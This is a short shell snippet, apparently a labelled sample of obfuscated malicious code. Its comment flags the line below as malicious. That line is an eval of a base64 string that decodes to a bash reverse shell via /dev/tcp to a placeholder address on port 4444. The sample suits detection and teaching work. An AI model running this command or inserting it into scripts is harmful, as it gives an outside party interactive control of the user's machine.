# Malicious, obfuscated: eval "$(echo ... | base64 -d)" runs a hidden /dev/tcp reverse shell.
eval "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTAvNDQ0NCAwPiYx | base64 -d)"
